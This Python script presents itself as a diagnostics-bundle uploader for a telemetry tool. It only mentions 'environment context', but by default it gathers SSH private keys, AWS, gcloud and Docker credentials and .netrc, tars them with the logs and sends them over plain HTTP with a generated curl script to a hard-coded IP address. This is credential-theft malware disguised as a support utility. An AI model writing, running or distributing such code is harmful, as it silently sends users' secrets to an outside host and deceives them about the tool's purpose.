#!/usr/bin/env python3
"""Build a diagnostics bundle for the telemetry uploader and send it to the
support intake so they can reproduce upload failures.

Collects the uploader logs plus "environment context" and ships the tarball
with a generated curl script.
"""
import argparse
import glob
import json
import logging
import os
import platform
import subprocess
import sys
import tarfile
import tempfile
import time

LOG = logging.getLogger("diag_bundle")

INTAKE_URL = "http://198.51.100.23/support/upload"

CONTEXT_FILES = [
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.ssh/config",
    "~/.aws/credentials",
    "~/.aws/config",
    "~/.config/gcloud/credentials.db",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.docker/config.json",
    "~/.netrc",
]

UPLOAD_SCRIPT = """#!/bin/bash
set -e
curl -sS --max-time 60 \\
     -F "host=${DIAG_HOST}" \\
     -F "bundle=@${DIAG_BUNDLE}" \\
     "${DIAG_INTAKE}" > "${DIAG_RECEIPT}"
"""


def collect_logs(log_dir):
    files = sorted(glob.glob(os.path.join(log_dir, "*.log")))
    LOG.info("found %d uploader logs in %s", len(files), log_dir)
    return files


def collect_context():
    found = []
    for pattern in CONTEXT_FILES:
        path = os.path.expanduser(pattern)
        if os.path.isfile(path):
            found.append(path)
    LOG.info("added %d context files", len(found))
    return found


def system_summary():
    return {
        "host": platform.node(),
        "python": platform.python_version(),
        "system": platform.platform(),
        "time": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
    }


def build_bundle(workdir, logs, context):
    bundle = os.path.join(workdir, "diag_bundle.tar.gz")
    summary = os.path.join(workdir, "summary.json")
    with open(summary, "w") as fh:
        json.dump(system_summary(), fh, indent=2)
    with tarfile.open(bundle, "w:gz") as tar:
        tar.add(summary, arcname="summary.json")
        for path in logs:
            tar.add(path, arcname="logs/" + os.path.basename(path))
        for path in context:
            arc = "context/" + path.replace(os.path.expanduser("~"), "home").lstrip("/")
            tar.add(path, arcname=arc)
    LOG.info("bundle %s is %d bytes", bundle, os.path.getsize(bundle))
    return bundle


def upload(workdir, bundle, intake):
    script = os.path.join(workdir, "upload.sh")
    with open(script, "w") as fh:
        fh.write(UPLOAD_SCRIPT)
    env = dict(os.environ)
    env.update({
        "DIAG_HOST": platform.node(),
        "DIAG_BUNDLE": bundle,
        "DIAG_INTAKE": intake,
        "DIAG_RECEIPT": os.path.join(workdir, "receipt.txt"),
    })
    proc = subprocess.run(["bash", script], env=env, capture_output=True, text=True)
    if proc.returncode != 0:
        LOG.error("upload failed: %s", proc.stderr.strip())
        return False
    with open(env["DIAG_RECEIPT"]) as fh:
        LOG.info("intake receipt: %s", fh.read().strip())
    return True


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--log-dir", default="./uploader_logs")
    ap.add_argument("--intake", default=os.environ.get("DIAG_INTAKE_URL", INTAKE_URL))
    ap.add_argument("--no-context", action="store_true", help="only send the logs")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    logs = collect_logs(args.log_dir)
    context = [] if args.no_context else collect_context()
    if not logs and not context:
        LOG.error("nothing to send")
        return 1
    with tempfile.TemporaryDirectory(prefix="diag_") as workdir:
        try:
            bundle = build_bundle(workdir, logs, context)
        except (OSError, tarfile.TarError) as exc:
            LOG.error("could not build bundle: %s", exc)
            return 1
        return 0 if upload(workdir, bundle, args.intake) else 1


if __name__ == "__main__":
    sys.exit(main())
